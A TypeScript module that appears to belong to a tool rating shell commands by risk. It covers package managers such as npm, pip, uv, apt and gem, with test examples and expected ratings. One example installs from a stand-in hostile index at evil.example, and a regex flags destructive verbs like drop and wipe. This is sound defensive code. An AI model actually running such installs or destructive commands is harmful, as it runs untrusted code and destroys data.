import type { Word } from "../../model/command.ts";
import { regionOf } from "../path-risk.ts";
import { isOpen, knownStart } from "../words.ts";
import { isBuildTool } from "./build-tools.ts";
import type { Doing } from "./doing.ts";
import { guardedPaths } from "./guarded-paths.ts";
import type { Arguments } from "./options.ts";
import { runInstallScripts, runPackageScript } from "./package-scripts.ts";
import { type Behaviour, because, high, low, medium, type Program } from "./program.ts";

/** Fetches packages whose own scripts run while they are installed. */
function installing(host: string, runsScripts: boolean): Behaviour {
  return {
    options:
      "--registry=fetch --index-url,-i=fetch --extra-index-url=fetch -r,--requirement=read -c,--constraint=read -t,--target=write --prefix=write -w,--workspace=skip --cwd=dir -C,--dir=dir --only-binary= --group= -g,--global -D,--save-dev -E -P,--save-prod -O --ignore-scripts --dry-run -e,--editable=skip --python= --extra= --frozen-lockfile --immutable -q -U,--upgrade --user --break-system-packages -y,--yes -f,--force",
    dryRun: ["--dry-run"],
    flags: {
      "-g": medium("outside-repository", "runs-remote-code"),
      "--break-system-packages": medium("outside-repository"),
    },
    acts: (args, doing) => {
      const elsewhere = args.options.some((option) => option.role === "fetch");
      if (!elsewhere) doing.connectHost(host, "fetch");
      for (const word of args.operands) {
        if (/^(https?|git|git\+\w+|ssh):|^[\w.-]+@[\w.-]+:|^(github|gitlab):/.test(knownStart(word)))
          doing.connect(word, "fetch", high("runs-remote-code"));
      }
      // Another project's manifest says what comes.
      if (doing.cwd === null || regionOf(doing.cwd, doing.surroundings.places) !== "repository")
        doing.adds({ level: "low", reasons: ["outside-repository"] });
      if (!runsScripts || args.has("--ignore-scripts")) return;
      doing.adds(medium("runs-remote-code"));
      doing.unsure("packages run scripts of their own when they are installed");
      if (/npm|yarn/.test(host)) runInstallScripts(doing);
    },
  };
}

const publishing: Behaviour = {
  options: "--dry-run --tag= --access= --registry=send -n --otp=",
  dryRun: ["--dry-run", "-n"],
  risk: high("leaves-machine", "publishes"),
  acts: (_args, doing) => doing.connectHost(null, "send"),
};

/** Another shell, other settings, or code loaded into node: what then runs is not what the script says. */
const steering =
  "--script-shell,--shell=unsafe --node-options=unsafe --userconfig,--globalconfig=unsafe --preload,--require=unsafe";

const looks: Behaviour = {};
const changesManifest: Behaviour = { risk: low };

/** Runs a script of package.json; words behind `--` (or any, for yarn and pnpm) are its own. */
const script: Behaviour = {
  options: `-w,--workspace=skip --if-present --silent,-s --workspaces --prefix=dir -C,--dir=dir --filter,-F=skip --cwd=dir -r,--recursive --parallel --stream ${steering}`,
  style: "posix",
  acts: (args, doing) => {
    const [name, ...words] = args.operands;
    if (name === undefined) return;
    const elsewhere = args.has("-w", "--workspaces", "--filter", "-r");
    if (elsewhere) doing.unsure(because.repositoryCode);
    else runPackageScript(name, words[0] === "--" ? words.slice(1) : words, doing);
  },
};

/** `npm test` is `npm run test`. */
function fixedScript(name: string): Behaviour {
  return {
    options: `-w,--workspace=skip --if-present --silent --prefix=dir --workspaces ${steering}`,
    acts: (args, doing) => {
      if (args.has("-w", "--workspaces")) doing.unsure(because.repositoryCode);
      else runPackageScript(name, args.operands, doing);
    },
  };
}

/** `npm exec tsc --package=other`: npm, unlike npx, takes its own options anywhere before `--`. */
function namesPackageLater(words: readonly Word[], doing: Doing): boolean {
  if (!/(^|\/)c?npm$/.test(knownStart(doing.invocation.argv[0] ?? ""))) return false;
  const end = words.indexOf("--");
  const own = end < 0 ? words : words.slice(0, end);
  return own.some((word) => /^(-c|--(pack|call|reg))/.test(knownStart(word)));
}

/** Runs a program of a package: one that is known as a build tool, or one that is fetched and run. */
function runPackageProgram(args: Arguments, doing: Doing): void {
  const given = args.has("-c") ? args.value("-c") : null;
  if (given !== null) {
    doing.script(given);
    return;
  }
  const [program, ...words] = args.operands;
  if (program === undefined) return;
  // Only a version or a tag may follow: `tsc@npm:other` and `tsc@owner/repository` are other programs.
  const name = isOpen(program) ? null : program.replace(/(?<=.)@[\^~<>=]*[\w.*+-]+$/, "");
  const extra = args.has("-p", "--from", "--with", "--registry") || namesPackageLater(words, doing);
  if (name !== null && !extra && isBuildTool(name.replace(/^@[\w.-]+\//, "")) && !name.startsWith("@")) {
    doing.run([name, ...words]);
    return;
  }
  if (name !== null && words.length === 1 && /^(--version|--help)$/.test(knownStart(words[0] ?? "")))
    doing.adds(low);
  else doing.adds(medium("runs-remote-code"));
  doing.connectHost("registry.npmjs.org", "fetch");
  doing.unsure(because.remoteCode);
  destructiveWords(words, doing);
}

/** Verbs in a stranger's words say enough to be careful. */
function destructiveWords(words: readonly Word[], doing: Doing): void {
  const text = words.map(knownStart).join(" ");
  if (
    /(^|[\s:-])(drop|destroy|delete|reset|purge|wipe|undo|rollback|accept-data-loss|force-reset)\b/.test(text)
  ) {
    doing.adds(high("destroys-data"));
  }
}

const packageProgram: Behaviour = {
  style: "posix",
  options:
    "-c,--call=skip -p,--package=skip --registry=fetch -y,--yes --no-install,--no -q,--quiet --ignore-existing -w,--workspace= --prefer-offline --offline -s --silent --shell-mode",
  acts: runPackageProgram,
};

const npmHost = "registry.npmjs.org";
const npmInstall = installing(npmHost, true);

const npmLike: Readonly<Record<string, Behaviour | string>> = {
  install: npmInstall,
  i: "install",
  add: "install",
  ci: "install",
  in: "install",
  isntall: "install",
  "install-test": "install",
  "clean-install": "install",
  update: "install",
  up: "install",
  upgrade: "install",
  upgrade_interactive: "install",
  dedupe: "install",
  rebuild: "install",
  link: "install",
  dlx: packageProgram,
  create: packageProgram,
  init: {
    style: "posix",
    options: "-y,--yes --scope=",
    acts: (args, doing) => {
      const [name] = args.operands;
      if (name === undefined) return;
      doing.adds(medium("runs-remote-code"));
      doing.unsure(because.remoteCode);
      doing.connectHost(npmHost, "fetch");
    },
  },
  exec: packageProgram,
  x: "exec",
  run: script,
  "run-script": "run",
  rum: "run",
  test: fixedScript("test"),
  t: "test",
  tst: "test",
  start: fixedScript("start"),
  stop: fixedScript("stop"),
  restart: fixedScript("restart"),
  uninstall: changesManifest,
  remove: changesManifest,
  rm: "remove",
  un: "remove",
  prune: changesManifest,
  publish: publishing,
  unpublish: { ...publishing, risk: high("destroys-data", "publishes") },
  deprecate: publishing,
  "dist-tag": publishing,
  owner: publishing,
  access: publishing,
  token: { risk: high("reads-secret") },
  login: { risk: high("leaves-machine") },
  adduser: "login",
  logout: { risk: medium("leaves-machine") },
  config: {
    options: "-g,--global --location=",
    subcommands: {
      get: looks,
      list: looks,
      ls: looks,
      set: { operands: "skip", risk: medium("persistence"), acts: (_args, doing) => doing.write("~/.npmrc") },
      delete: { risk: medium("persistence"), acts: (_args, doing) => doing.write("~/.npmrc") },
      edit: { opaque: "starts an editor" },
    },
  },
  set: { risk: medium("persistence"), acts: (_args, doing) => doing.write("~/.npmrc") },
  cache: { others: {}, subcommands: { clean: { risk: medium("outside-repository") }, list: looks } },
  version: { flags: {}, risk: low },
  pack: { operands: "skip" },
  audit: {
    options: "--fix --json --audit-level=",
    acts: (args, doing) =>
      args.operands.length > 0
        ? doing.unsure("packages run scripts of their own when they are installed")
        : doing.connectHost(npmHost, "fetch"),
  },
  ...Object.fromEntries(
    "list ls ll la outdated view info show why explain search docs bugs repo root bin prefix whoami ping doctor fund help licenses query explore-none store completion get team-ls workspaces fetch node versions --version -v"
      .split(" ")
      .map((name) => [name, looks]),
  ),
};

const npmGlobals = `--prefix=dir -C,--dir=dir --cwd=dir --package=unsafe --call=unsafe -w,--workspace= --filter,-F= --workspaces -s,--silent -q,--quiet -g,--global --loglevel= -v,--version -h,--help -r,--recursive --registry= -y --color[=] --no-color --offline -D,--save-dev ${steering}`;

const pipInstall = installing("pypi.org", true);

export const packages: readonly Program[] = [
  {
    names: "npm cnpm",
    options: npmGlobals,
    subcommands: npmLike,
    leavesOut: ["--prefix", "-s", "-q", "--loglevel"],
    examples: [
      ["npm test", "low opaque +runs-local-code"],
      ["npm run build", "low opaque +runs-local-code"],
      ["npm install", "medium opaque +runs-remote-code net.connect:fetch:registry.npmjs.org"],
      ["npm install --ignore-scripts x", "low net.connect:fetch:registry.npmjs.org"],
      ["npm ls", "low"],
      ["npm publish", "high +publishes net.connect:send:?"],
      ["npm publish --dry-run", "low net.connect:fetch:?"],
      ["npm --version", "low"],
      ["npm exec vitest", "low run:vitest"],
      ["npm frob", "low opaque"],
    ],
  },
  {
    names: "pnpm yarn yarnpkg bun-package",
    options: npmGlobals,
    // `yarn` alone installs.
    acts: (args, doing) => {
      const alone = args.operands.length === 0 && !args.has("-v", "-h");
      if (alone && /yarn/.test(knownStart(doing.invocation.argv[0] ?? ""))) npmInstall.acts?.(args, doing);
    },
    subcommands: {
      ...npmLike,
      workspace: { opaque: because.repositoryCode, risk: low },
      workspaces: looks,
      foreach: { opaque: because.repositoryCode },
      deploy: { opaque: because.repositoryCode },
      pm: looks,
      patch: looks,
    },
    others: {
      style: "posix",
      acts: (_args, doing) => {
        const words = doing.argv ?? doing.invocation.argv;
        const [, name, ...rest] = words;
        if (name !== undefined && !runPackageScript(name, rest, doing) && !isOpen(name) && isBuildTool(name))
          doing.run([name, ...rest]);
      },
    },
    examples: [
      ["yarn test", "low opaque +runs-local-code"],
      ["yarn", "medium opaque +runs-remote-code net.connect:fetch:registry.npmjs.org"],
      ["yarn --version", "low"],
      ["yarn --cwd /tmp/x", "medium opaque +outside-repository net.connect:fetch:registry.npmjs.org"],
      ["pnpm install", "medium opaque net.connect:fetch:registry.npmjs.org"],
      ["yarn lint", "low opaque +runs-local-code"],
      ["pnpm dlx frob", "medium opaque +runs-remote-code net.connect:fetch:registry.npmjs.org"],
    ],
  },
  {
    names: "npx pnpx bunx",
    ...packageProgram,
    examples: [
      ["npx tsc --noEmit", "low run:tsc"],
      ["npx -y frob", "medium opaque +runs-remote-code net.connect:fetch:registry.npmjs.org"],
      ["npx -c 'rm x'", "low script"],
      ["npx prisma-x db drop", "high opaque +destroys-data net.connect:fetch:registry.npmjs.org"],
    ],
  },
  {
    names: "pip pip3 pip3.11 pip3.12 pipx conda mamba micromamba",
    options: "--python= -q,--quiet --no-cache-dir --disable-pip-version-check --proxy=send --no-color",
    subcommands: {
      install: pipInstall,
      download: installing("pypi.org", true),
      wheel: "download",
      upgrade: "install",
      inject: "install",
      update: "install",
      create: "install",
      uninstall: { risk: medium("changes-files") },
      remove: "uninstall",
      run: {
        style: "posix",
        options: "--spec= -n,--name=",
        acts: (args, doing) => {
          const [name] = args.operands;
          const known = name !== undefined && !isOpen(name) && isBuildTool(name) && !args.has("--spec");
          if (known) doing.run(args.operands);
          else {
            doing.unsure(because.remoteCode);
            doing.adds(medium("runs-remote-code"));
          }
        },
      },
      config: {
        others: { risk: medium("persistence") },
        subcommands: { list: looks, get: looks, debug: looks },
      },
      cache: { others: {}, subcommands: {} },
      ...Object.fromEntries(
        "list freeze show check search index inspect debug hash help info env environment ensurepath completion"
          .split(" ")
          .map((name) => [name, looks]),
      ),
    },
    examples: [
      ["pip install requests", "medium opaque +runs-remote-code net.connect:fetch:pypi.org"],
      [
        "pip install -r requirements.txt",
        "medium opaque fs.read:/repo/requirements.txt net.connect:fetch:pypi.org",
      ],
      ["pip install -i https://evil.example/x y", "medium opaque net.connect:fetch:evil.example"],
      ["pip freeze", "low"],
    ],
  },
  {
    names: "uv poetry pdm pipenv hatch rye",
    options: "--directory,-C=dir --project=dir -q,--quiet -v --offline --no-cache --color= -n --python=",
    subcommands: {
      add: pipInstall,
      install: pipInstall,
      sync: pipInstall,
      lock: installing("pypi.org", false),
      update: pipInstall,
      upgrade: pipInstall,
      remove: changesManifest,
      uninstall: changesManifest,
      init: changesManifest,
      new: changesManifest,
      build: { opaque: because.repositoryCode, risk: low },
      publish: publishing,
      run: {
        style: "posix",
        options:
          "--with=skip --with-requirements=read --env-file=read --extra= --group= -m,--module=skip -p,--python= --package= --no-sync --frozen --isolated --script=skip --all-extras --dev --no-dev --locked -q",
        acts: (args, doing) => {
          const module = args.value("-m");
          doing.transparent = true;
          if (args.has("--with")) {
            doing.unsure(because.remoteCode);
            doing.connectHost("pypi.org", "fetch");
          }
          if (module !== null) doing.run(["python", "-m", module, ...args.operands]);
          else if (/\.py$/.test(knownStart(args.operands[0] ?? ""))) doing.run(["python", ...args.operands]);
          else doing.run(args.operands);
        },
      },
      pip: {
        subcommands: {
          install: pipInstall,
          sync: pipInstall,
          compile: installing("pypi.org", false),
          uninstall: changesManifest,
          list: looks,
          freeze: looks,
          show: looks,
          check: looks,
          tree: looks,
        },
        options: "",
      },
      venv: { operands: "write" },
      tool: {
        options: "",
        subcommands: {
          run: { style: "posix", acts: runPackageProgram },
          install: pipInstall,
          list: looks,
          uninstall: changesManifest,
          dir: looks,
          upgrade: pipInstall,
        },
      },
      python: { options: "", others: "verbs", host: "github.com" },
      config: { risk: medium("persistence") },
      env: { others: "verbs" },
      cache: { others: "verbs" },
      self: { others: { risk: medium("runs-remote-code") } },
      shell: { opaque: "starts a shell" },
      ...Object.fromEntries(
        "tree list show check version export about search help info outdated"
          .split(" ")
          .map((name) => [name, looks]),
      ),
    },
    examples: [
      ["uv run pytest -x", "low run:pytest"],
      ["uv sync", "medium opaque net.connect:fetch:pypi.org"],
      ["poetry publish", "high +publishes net.connect:send:?"],
    ],
  },
  {
    names: "uvx",
    style: "posix",
    options: "--from=skip --with=skip -p,--python= -q",
    acts: runPackageProgram,
    examples: [["uvx ruff check", "low run:ruff"]],
  },
  {
    names:
      "apt apt-get aptitude dnf yum zypper apk pacman brew port snap flatpak nix nix-env choco winget scoop emerge xbps-install pkg opkg dpkg rpm",
    options:
      "-y,--yes,--assume-yes -q -s,--simulate,--dry-run,--just-print -f -t= -o= --cask -S -R -Q -U -D -i=skip -r -e -P -l -L",
    dryRun: ["-s"],
    acts: (args, doing) => {
      const verb = knownStart(args.operands[0] ?? "");
      if (
        /^(list|search|show|info|policy|depends|rdepends|why|outdated|leaves|deps|uses|doctor|config|cat|home|log|desc|help|changelog|madison|provides|whatprovides|repolist|history|eval|flake|develop)$/.test(
          verb,
        )
      )
        return;
      if (args.has("-l", "-L", "-Q") && args.operands.length === 0) return;
      if (
        /^(remove|purge|autoremove|uninstall|erase|del|rm|zap|cleanup|clean|autoclean)$/.test(verb) ||
        args.has("-R", "-P", "-e")
      ) {
        doing.adds(high("destroys-data", "privilege"));
        return;
      }
      doing.adds(medium("privilege", "runs-remote-code"));
      doing.unsure("packages run scripts of their own when they are installed");
      doing.connectHost(null, "fetch");
    },
    examples: [
      ["apt-get install -y jq", "medium opaque +privilege net.connect:fetch:?"],
      ["apt-get remove jq", "high +privilege"],
      ["brew list", "low"],
      ["dpkg -l", "low"],
    ],
  },
  {
    names:
      "gem bundle bundler composer cpan cpanm luarocks opam cabal stack mix hex rebar3 nuget dotnet-tool pub dart flutter pod carthage swiftpm conan vcpkg",
    options: "-v --version -q --quiet",
    subcommands: {
      install: installing("rubygems.org", true),
      update: installing("rubygems.org", true),
      require: installing("packagist.org", true),
      add: installing("rubygems.org", true),
      exec: { style: "posix", acts: (args, doing) => doing.run(args.operands) },
      push: publishing,
      publish: publishing,
      yank: { ...publishing, risk: high("destroys-data", "publishes") },
      ...Object.fromEntries(
        "list show outdated info search check config env help version licenses platform doctor why analyze format fmt deps which query contents dependency specification status"
          .split(" ")
          .map((name) => [name, looks]),
      ),
      uninstall: changesManifest,
      remove: changesManifest,
      ...Object.fromEntries(
        "test build run compile clean archive".split(" ").map((name) => [
          name,
          {
            opaque: because.repositoryCode,
            risk: low,
            acts: (_args, doing) => guardedPaths(doing),
          } satisfies Behaviour,
        ]),
      ),
    },
    examples: [
      ["bundle exec rspec", "low run:rspec"],
      ["gem push a.gem", "high +publishes net.connect:send:?"],
      ["bundle install", "medium opaque net.connect:fetch:rubygems.org"],
    ],
  },
];
